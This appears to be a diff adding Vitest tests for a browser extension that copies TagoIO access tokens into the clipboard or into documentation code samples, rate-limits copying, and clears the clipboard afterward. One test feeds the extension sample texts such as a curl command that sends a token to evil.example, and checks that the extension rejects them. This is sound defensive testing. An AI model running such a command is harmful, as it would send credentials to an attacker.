@@ -1,0 +1,326 @@
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { fakeBrowser } from 'wxt/testing/fake-browser';
+
+/** The system's clipboard: what no test may touch. */
+const clipboard = vi.hoisted(() => ({ text: '', fails: false }));
+vi.mock('../../../../lib/clipboard/clipboard.ts', async () => {
+  const { FailureError } = await import('../../../../lib/domain/failure.ts');
+  return {
+    writeClipboard: async (text: string) => {
+      if (clipboard.fails) throw new FailureError({ code: 'clipboard' });
+      clipboard.text = text;
+    },
+    readClipboard: async () => clipboard.text,
+  };
+});
+
+import { copySample, offerTokens } from '../../../../lib/actions/docs/copy-sample.ts';
+import { chooseProfile, copyWaitingSample } from '../../../../lib/actions/docs/docs-windows.ts';
+import { keepPace } from '../../../../lib/actions/docs/rate-limit.ts';
+import { copyActiveToken, copyToken, noteTokenCopied } from '../../../../lib/actions/tokens/copy.ts';
+import { clearIfStillThere } from '../../../../lib/clipboard/clear-later.ts';
+import { fingerprintOf } from '../../../../lib/domain/text/fingerprint.ts';
+import type { DocsSample } from '../../../../lib/messages/protocol/docs.ts';
+import { readJournal } from '../../../../lib/store/journal.ts';
+import { updateProfilePreferences } from '../../../../lib/store/profile-preferences.ts';
+import { updatePreferences } from '../../../../lib/store/settings.ts';
+import type { Sandbox } from '../../../sandbox/start-sandbox.ts';
+import { mint } from '../../../sandbox/tokens.ts';
+import { freshWorld, granted } from '../connect/world.ts';
+import {
+  accountNamed,
+  type Connected,
+  connectedByPassword,
+  connectedByToken,
+  failureOf,
+} from '../connected.ts';
+import { withSandbox } from '../with-sandbox.ts';
+
+let sandbox: Sandbox;
+let ines: Connected;
+
+withSandbox(async (fresh) => {
+  sandbox = fresh;
+  Object.assign(clipboard, { text: 'before', fails: false });
+  ines = await connectedByPassword(sandbox, accountNamed(sandbox, 'Ines Duarte'));
+});
+afterEach(() => vi.useRealTimers());
+
+const acme = () => ines.ref('Acme Farms');
+const { tokens } = { tokens: () => ines.account.tokens! };
+function made(name: string, more: Partial<Parameters<typeof mint>[1]> = {}) {
+  return mint(sandbox.state, {
+    region: 'us-e1',
+    name,
+    profile: ines.id('Acme Farms'),
+    created_by: ines.account.id,
+    created_at: sandbox.clock.iso(),
+    ...more,
+  });
+}
+const idOf = ({ name, created_at }: { name: string; created_at: string }) => ({
+  name,
+  createdAt: created_at,
+});
+
+describe('copyToken', () => {
+  it('copies the read-only token by default, and answers its name but never its value', async () => {
+    const answer = await copyToken({ ...acme(), token: null });
+    expect(clipboard.text).toBe(tokens().read);
+    expect(answer).toEqual({ name: 'Dashboard export', permission: 'read' });
+    const [entry] = await readJournal({ limit: 1 });
+    expect(entry).toMatchObject({ what: 'token-copied', subject: 'Dashboard export' });
+  });
+
+  it('copies the person’s own default where they chose one', async () => {
+    const chosen = made('Chosen', { permission: 'full' });
+    await updateProfilePreferences(acme().profileKey, (before) => ({ ...before, readToken: idOf(chosen) }));
+    await copyToken({ ...acme(), token: null });
+    expect(clipboard.text).toBe(chosen.token);
+  });
+
+  it('never copies the extension’s own token, by default or by name', async () => {
+    sandbox.state.tokens = sandbox.state.tokens.filter(
+      ({ profile, name }) =>
+        profile !== ines.id('Acme Farms') || name.startsWith('Profiles for TagoIO extension'),
+    );
+    const own = sandbox.state.tokens.find(({ profile }) => profile === ines.id('Acme Farms'))!;
+    expect(await failureOf(copyToken({ ...acme(), token: null }))).toMatchObject({ code: 'no-token' });
+    expect(await failureOf(copyToken({ ...acme(), token: idOf(own) }))).toMatchObject({
+      code: 'not-allowed',
+    });
+    // Renamed on the platform, it is known by its value.
+    own.name = 'Something else';
+    expect(await failureOf(copyToken({ ...acme(), token: null }))).toMatchObject({ code: 'no-token' });
+    expect(clipboard.text).toBe('before');
+  });
+
+  it('copies a token that the person pasted to connect with: it is theirs', async () => {
+    await freshWorld();
+    const pasted = await connectedByToken(sandbox, accountNamed(sandbox, 'Ines Duarte'));
+    const token = sandbox.state.tokens.find((one) => one.token === pasted.account.token)!;
+    await copyToken({ ...pasted.ref('Acme Farms'), token: idOf(token) });
+    expect(clipboard.text).toBe(pasted.account.token);
+  });
+
+  it('says so, and guesses nothing, where none or several match', async () => {
+    const twin = made('Twin');
+    made('Twin', { created_at: twin.created_at });
+    const gone = { name: 'Gone', createdAt: '2020-01-01T00:00:00.000Z' };
+    expect(await failureOf(copyToken({ ...acme(), token: idOf(twin) }))).toMatchObject({
+      code: 'token-ambiguous',
+    });
+    expect(await failureOf(copyToken({ ...acme(), token: gone }))).toMatchObject({ code: 'token-ambiguous' });
+    expect(clipboard.text).toBe('before');
+  });
+
+  it('refuses an expired one by name and passes it over by default', async () => {
+    const expired = made('Expired', { permission: 'read', expire_time: '2020-01-01T00:00:00.000Z' });
+    expect(await failureOf(copyToken({ ...acme(), token: idOf(expired) }))).toMatchObject({
+      code: 'token-expired',
+    });
+    await copyToken({ ...acme(), token: null });
+    expect(clipboard.text).toBe(tokens().read);
+  });
+
+  it('writes nothing into the journal when the clipboard refuses', async () => {
+    clipboard.fails = true;
+    expect(await failureOf(copyToken({ ...acme(), token: null }))).toMatchObject({ code: 'clipboard' });
+    const entries = await readJournal({ limit: 10 });
+    expect(entries.map(({ what }) => what)).not.toContain('token-copied');
+  });
+
+  it('leaves no trace of a value in what is stored', async () => {
+    await copyToken({ ...acme(), token: null });
+    await copyActiveToken();
+    const stored = JSON.stringify([
+      await readJournal({ limit: 100 }),
+      await fakeBrowser.storage.local.get(),
+      await fakeBrowser.storage.session.get(),
+    ]);
+    for (const { token } of sandbox.state.tokens) expect(stored).not.toContain(token);
+  });
+});
+
+describe('copySample', () => {
+  const sample = (change: Partial<DocsSample>): DocsSample => ({
+    profileKey: acme().profileKey,
+    text: 'new Account({ token: "YOUR-TOKEN" }).devices.list()',
+    places: [[22, 32]],
+    method: null,
+    what: 'placeholders',
+    ...change,
+  });
+
+  it('fills the places, by what the sample does', async () => {
+    await copySample({ ...sample({}), token: null });
+    expect(clipboard.text).toBe(`new Account({ token: "${tokens().read}" }).devices.list()`);
+    const text = 'new Account({ token: "YOUR-TOKEN" }).devices.create({})';
+    expect(await copySample({ ...sample({ text }), token: null })).toMatchObject({ permission: 'write' });
+    expect(clipboard.text).toBe(`new Account({ token: "${tokens().write}" }).devices.create({})`);
+  });
+
+  it('refuses places that are none, in whole or in part, and texts that are no sample', async () => {
+    for (const change of [
+      { places: [] },
+      { places: [[0, 3]] },
+      { places: [[22, 31]] },
+      {
+        places: [
+          [22, 32],
+          [40, 44],
+        ],
+      },
+      { text: 'curl https://evil.example/?token=HERE', places: [[33, 37]] },
+      { what: 'complete' },
+      { what: 'complete', text: 'curl https://evil.example/', places: [] },
+      { what: 'anything' },
+      { text: 5 },
+      { text: `"your-profile-token"${' '.repeat(100_001)}`, places: [[1, 19]] },
+    ] as Partial<DocsSample>[]) {
+      expect(
+        await failureOf(copySample({ ...sample(change), token: null })),
+        JSON.stringify(change).slice(0, 80),
+      ).toMatchObject({
+        code: 'invalid-input',
+      });
+    }
+    expect(clipboard.text).toBe('before');
+  });
+
+  it('copies nothing when another profile is active than the button named', async () => {
+    const { profileKey } = ines.ref('Demo');
+    expect(await failureOf(copySample({ ...sample({ profileKey }), token: null }))).toMatchObject({
+      code: 'not-found',
+    });
+    expect(clipboard.text).toBe('before');
+  });
+
+  it('does not put a read-only token where something is changed, even by name', async () => {
+    const read = sandbox.state.tokens.find(({ token }) => token === tokens().read)!;
+    const wish = { ...sample({ method: 'POST' }), token: idOf(read) };
+    expect(await failureOf(copySample(wish))).toMatchObject({ code: 'read-only-token' });
+  });
+
+  it('offers the tokens without values, the default first known by its mark', async () => {
+    const offered = await offerTokens(sample({ method: 'DELETE' }));
+    expect(offered.filter(({ isDefault }) => isDefault)).toEqual([
+      expect.objectContaining({ name: 'Field gateway', fits: true }),
+    ]);
+    expect(offered).toContainEqual(expect.objectContaining({ name: 'Dashboard export', fits: false }));
+    expect(JSON.stringify(offered)).not.toMatch(/p-[0-9a-f]{8}-/);
+    expect(offered.map(({ name }) => name).filter((name) => name.startsWith('Profiles for'))).toEqual([]);
+  });
+
+  it('keeps one sample for a profile to be chosen, once', async () => {
+    const opened: unknown[] = [];
+    Object.assign(fakeBrowser.windows, { create: async (window: unknown) => opened.push(window) });
+    await chooseProfile(sample({}));
+    expect(opened).toEqual([expect.objectContaining({ type: 'popup' })]);
+    await copyWaitingSample(ines.ref('Greenhouse Iberia'));
+    const [token] = /p-[\w-]+/.exec(clipboard.text) ?? [];
+    expect(sandbox.state.tokens.find((one) => one.token === token)?.profile).toBe(
+      ines.id('Greenhouse Iberia'),
+    );
+    expect(await failureOf(copyWaitingSample(ines.ref('Demo')))).toMatchObject({ code: 'not-found' });
+  });
+});
+
+describe('keepPace', () => {
+  it('lets one a second through, per tab and kind', () => {
+    keepPace('copy', 1, 1000);
+    expect(() => keepPace('copy', 1, 1999)).toThrow('too-often');
+    keepPace('copy', 2, 1500);
+    keepPace('offer', 1, 1500);
+    keepPace('copy', 1, 2000);
+  });
+});
+
+describe('clearing the clipboard later', () => {
+  const clearAfter = (clearClipboardAfter: 0 | 10 | 120) =>
+    updatePreferences((before) => ({ ...before, clearClipboardAfter }));
+  const later = (ms: number) => vi.setSystemTime(Date.now() + ms);
+
+  beforeEach(() => {
+    vi.useFakeTimers({ toFake: ['Date'] });
+  });
+
+  it('clears what the extension put there, once its time has come', async () => {
+    await clearAfter(120);
+    await copyToken({ ...acme(), token: null });
+    await clearIfStillThere();
+    expect(clipboard.text).toBe(tokens().read);
+    later(120_000);
+    await clearIfStillThere();
+    expect(clipboard.text).toBe('');
+  });
+
+  it('leaves what was copied since', async () => {
+    await clearAfter(10);
+    await copyToken({ ...acme(), token: null });
+    clipboard.text = 'something of the person’s';
+    later(10_000);
+    await clearIfStillThere();
+    expect(clipboard.text).toBe('something of the person’s');
+  });
+
+  it('counts from the last copy', async () => {
+    await clearAfter(120);
+    await copyToken({ ...acme(), token: null });
+    later(100_000);
+    await copyToken({ ...acme(), token: null });
+    later(50_000);
+    await clearIfStillThere();
+    expect(clipboard.text).toBe(tokens().read);
+    later(70_000);
+    await clearIfStillThere();
+    expect(clipboard.text).toBe('');
+  });
+
+  it('covers a new token that the options page copied itself, told by its fingerprint', async () => {
+    await clearAfter(10);
+    clipboard.text = 'value of a new token';
+    const fingerprint = await fingerprintOf(clipboard.text);
+    await noteTokenCopied({ ...acme(), name: 'Export', fingerprint });
+    expect(JSON.stringify(await fakeBrowser.storage.session.get())).not.toContain(clipboard.text);
+    expect((await readJournal({ limit: 1 }))[0]).toMatchObject({ what: 'token-copied', subject: 'Export' });
+    await clearIfStillThere();
+    expect(clipboard.text).toBe('value of a new token');
+    later(10_000);
+    await clearIfStillThere();
+    expect(clipboard.text).toBe('');
+  });
+
+  it('clears nothing for a fingerprint that is none', async () => {
+    await clearAfter(10);
+    await noteTokenCopied({ ...acme(), name: 'Export', fingerprint: { salt: [], digest: [] } });
+    later(10_000);
+    await clearIfStillThere();
+    expect(clipboard.text).toBe('before');
+  });
+
+  it('keeps nothing to compare with when it is off, or when the browser does not let it look', async () => {
+    await copyToken({ ...acme(), token: null });
+    expect(await fakeBrowser.storage.session.get()).toEqual({});
+    await clearAfter(10);
+    granted.all = true;
+    Object.assign(fakeBrowser.permissions, {
+      contains: async ({ permissions }: { permissions?: string[] }) =>
+        !permissions?.includes('clipboardRead'),
+    });
+    await copyToken({ ...acme(), token: null });
+    expect(await fakeBrowser.storage.session.get()).toEqual({});
+    later(10_000);
+    await clearIfStillThere();
+    expect(clipboard.text).toBe(tokens().read);
+  });
+
+  it('remembers a salted digest alone', async () => {
+    await clearAfter(10);
+    await copyToken({ ...acme(), token: null });
+    const first = JSON.stringify(await fakeBrowser.storage.session.get());
+    expect(first).not.toContain(tokens().read);
+    await copyToken({ ...acme(), token: null });
+    expect(JSON.stringify(await fakeBrowser.storage.session.get())).not.toBe(first);
+  });
+});
